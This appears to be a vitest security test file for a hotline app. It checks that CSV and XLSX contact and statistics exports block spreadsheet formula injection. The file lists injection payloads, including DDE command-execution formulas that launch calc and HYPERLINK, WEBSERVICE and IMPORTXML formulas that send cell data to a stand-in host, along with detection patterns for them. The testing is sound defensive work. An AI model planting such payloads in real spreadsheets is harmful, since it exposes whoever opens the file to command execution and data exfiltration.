import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as hotline from '../../src/modules/hotline/contract.ts';
import { aContact, type CsvColumn, csvColumns } from '../../src/modules/hotline/testing.ts';
import * as statistics from '../../src/modules/statistics/contract.ts';
import { csvCell } from '../../src/modules/statistics/testing.ts';
import * as accounts from '../../src/platform/accounts/contract.ts';
import { freshDatabase } from '../database/fresh-database.ts';
import { withFacts } from '../database/with-facts.ts';
import type { SomebodyAtWork } from '../house.ts';
import { aServedHouse, type ServedHouse } from '../served.ts';

/**
 * spreadsheet-injection (security.md section 15): a caller's text is never a formula in the file that somebody opens, and when the
 * file comes in again it says what the caller said.
 */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org/?"&A1,"click")',
  '=WEBSERVICE("http://example.org")',
  '=IMPORTXML(CONCAT("http://example.org/?",A1),"//a")',
  '+1+1',
  '+381 99 100 2003',
  "-2+3+cmd|' /C calc'!A0",
  '-',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  "'",
  '"=1+1"',
  'a";=1+1;"',
  'a,=1+1',
  'a;=1+1',
  'first line\r\n=1+1',
  'first line\n+1',
  '="""',
  '",=1+1',
] as const;

/** What a spreadsheet would work out, whichever of them reads it and in whichever language. */
const RUNS = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

let own: ServedHouse;
let other: ServedHouse;
let supervisor: SomebodyAtWork;

beforeAll(async () => {
  own = await aServedHouse({ now: '2021-12-14T10:00:00Z', synthetic: false, database: await freshDatabase(withFacts) });
  other = await aServedHouse({ now: '2021-12-14T10:00:00Z', synthetic: false, database: own.house.database });
  supervisor = await own.house.signedIn('supervisor');
});
afterAll(async () => {
  await other.close();
  await own.close();
});

const scope = { from: '2021-12-14', to: '2021-12-14', reason: '=1+1 ◇' };

const rowsOf = (text: string, delimiter: string): string[][] =>
  parse(text, { bom: true, delimiter, relax_column_count: true }) as string[][];

const exported = async (by: SomebodyAtWork, house: ServedHouse) =>
  (await house.call(hotline.exportContacts, scope, { as: by })).text;

const noteOf = (row: readonly string[]) => row[csvColumns.indexOf('note')] as string;

describe.each([
  ['en', ','],
  ['sr-Latn', ';'],
])('an export in %s', (language, delimiter) => {
  let text: string;
  beforeAll(async () => {
    const somebody = await own.house.signedIn('supervisor');
    await own.call(accounts.chooseLanguage, { language }, { as: somebody });
    for (const summary of FORMULAS) {
      const made = await own.call(
        hotline.recordContact,
        { ...aContact({ summary, callerNumber: summary.slice(0, 60) }) },
        { as: somebody },
      );
      expect([made.status, made.code], summary).toEqual([200, null]);
    }
    text = await exported(somebody, own);
  });

  it('has no cell that a spreadsheet works out', () => {
    const cells = rowsOf(text, delimiter);
    expect(cells.length).toBeGreaterThan(FORMULAS.length);
    for (const cell of cells.flat()) expect(cell).not.toMatch(RUNS);
  });

  it('keeps a text with the other language’s sign one cell', () => {
    const notes = rowsOf(text, delimiter).map((row) => noteOf(row) ?? '');
    expect(notes).toContain('a,=1+1');
    expect(notes).toContain('a;=1+1');
  });

  it('comes in again as it was said, byte for byte', async () => {
    const reader = await other.house.signedIn('supervisor');
    const checked = (await other.ask('POST', `/api${hotline.checkImport.path}?source=${language}`, {
      as: reader,
      // nobody there has her name
      raw: text.replaceAll(/(?:supervisor|consultant)-\d+-[0-9a-f]{8}(?=[,;])/g, ''),
      headers: { 'content-type': 'text/csv' },
    })) as { body: unknown };
    const report = checked.body as { id: string; hash: string; errors: number; created: number; firstErrors: unknown };
    expect(report.firstErrors).toEqual([]);
    expect(report.errors).toBe(0);
    const applied = await other.call(hotline.applyImport, { id: report.id, hash: report.hash }, { as: reader });
    expect([applied.status, applied.code]).toEqual([200, null]);
    const again = rowsOf(await exported(reader, other), ',').slice(1, -1);
    const before = rowsOf(text, delimiter).slice(1, -1);
    const texts = (rows: string[][]) => new Set(rows.map(noteOf));
    for (const note of texts(before)) expect(texts(again)).toContain(note);
    const { rows } = (await other.call(hotline.listRecent, {}, { as: reader })).body as { rows: { id: string }[] };
    const said = new Set<string>();
    for (const { id } of rows)
      said.add(((await other.call(hotline.getContact, { id }, { as: reader })).body as { summary: string }).summary);
    const known: readonly string[] = FORMULAS;
    for (const summary of said) expect(known).toContain(summary);
  }, 120_000);
});

describe('other files', () => {
  it('that list the faults of an import hold no cell of the file and no formula', async () => {
    const cells: Partial<Record<CsvColumn, string>> = {
      external_id: '=1+1',
      day: '=1+1',
      line: '@SUM(1)',
      channel: '+1',
      category: '=cmd',
    };
    const raw = `${csvColumns.join(',')}\r\n${csvColumns.map((column) => cells[column] ?? '').join(',')}\r\n`;
    const checked = await own.ask('POST', `/api${hotline.checkImport.path}?source=bad`, {
      as: supervisor,
      raw,
      headers: { 'content-type': 'text/csv' },
    });
    const { id, errors } = checked.body as { id: string; errors: number };
    expect(errors).toBeGreaterThan(0);
    const { text } = await own.call(hotline.getImportReport, { id }, { as: supervisor });
    expect(text).not.toContain('cmd');
    for (const cell of rowsOf(text, ',').flat()) expect(cell).not.toMatch(RUNS);
  });

  it('of statistics hold values and codes, with the organisation’s name and no formula made of it', async () => {
    const root = await own.house.database.asSuperuser();
    await root.query('update access.organisation set name = $2 where org_id = $1', [own.house.org, '=cmd|1!A0']);
    await root.end();
    const reader = await own.house.signedIn('director');
    const csv = await own.call(statistics.computeReport, { year: '2021', format: 'csv' }, { as: reader });
    expect(csv.status).toBe(200);
    const cells = rowsOf(csv.text, ',').flat();
    expect(cells.length).toBeGreaterThan(20);
    for (const cell of cells) expect(cell).not.toMatch(RUNS);

    const address = `${own.address}/api${statistics.computeReport.path}?year=2021&format=xlsx`;
    const file = await fetch(address, { headers: { cookie: `wayout=${reader.token.toString('base64url')}` } });
    expect(file.status).toBe(200);
    const parts = unzipSync(new Uint8Array(await file.arrayBuffer()));
    const xml = Object.entries(parts).map(([name, bytes]) => [name, Buffer.from(bytes).toString('utf8')] as const);
    expect(xml.map(([name]) => name)).toContain('xl/workbook.xml');
    for (const [name, text] of xml) {
      // a text cell is a text whatever it begins with: no formula, no shared formula, no link, no macro, no other book
      expect(text, name).not.toMatch(/<f[ >/]|t="str"|<hyperlink|<externalReference|<ddeLink|definedName|oleObject/);
      expect(name).not.toMatch(/vba|external|activeX|embeddings|connections/i);
    }
    const sheets = xml.filter(([name]) => name.startsWith('xl/worksheets/')).map(([, text]) => text);
    expect(sheets.join('')).toContain('=cmd|1!A0');
    for (const sheet of sheets)
      for (const cell of sheet.match(/<c [^>]*>/g) ?? []) expect(cell).not.toMatch(/t="(?!inlineStr)/);
  });

  it('have one rule for what a formula is', () => {
    for (const text of FORMULAS) {
      const [[cell] = ['']] = parse(csvCell(text), { relax_column_count: true }) as string[][];
      expect(cell).not.toMatch(RUNS);
    }
  });
});
